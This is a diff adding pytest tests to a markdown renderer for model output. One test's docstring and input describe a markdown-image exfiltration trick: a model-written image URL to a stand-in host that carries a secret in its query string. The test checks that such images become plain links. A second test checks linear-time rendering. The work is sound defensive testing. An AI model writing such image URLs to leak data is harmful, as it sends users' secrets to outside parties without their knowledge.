@@ -89,3 +89,27 @@ def test_model_text_never_becomes_script(text):
 @pytest.mark.parametrize("text", ["\\(\\frac{a\\)", "$\\style{x}$", "\\[\\left( x\\]", "$}{$"])
 def test_malformed_tex_never_raises(text):
     assert render_markdown(text)
+
+
+def test_remote_images_are_links_and_data_images_stay():
+    """A markdown image from elsewhere would make the page fetch a URL the model wrote (it can carry a secret
+    in its query): it becomes a link; a data: image is drawn."""
+    html = render_markdown("![leak](https://elsewhere.example/?q=SECRET) ![dot](data:image/png;base64,iVBORw0KGgo=)")
+    assert html.count("<img") == 1
+    assert '<a href="https://elsewhere.example/?q=SECRET"' in html and ">leak</a>" in html
+    assert '<img src="data:image/png;base64,iVBORw0KGgo="' in html
+
+
+def test_unclosed_brackets_render_in_linear_time():
+    """Many unclosed `\\(` used to cost a scan to the end each (34 s at 400 KB): now the time grows with the
+    text, not its square — 8x the text must take far less than 64x the time."""
+    import time
+
+    def seconds(size: int) -> float:
+        started = time.perf_counter()
+        render_markdown("\\( a " * (size // 5))
+        return time.perf_counter() - started
+
+    small, large = min(seconds(25_000) for _ in range(2)), seconds(200_000)
+    assert large < 20 * small + 0.5, (small, large)
+    assert "<math" in render_markdown("\\( x \\) and \\( y")
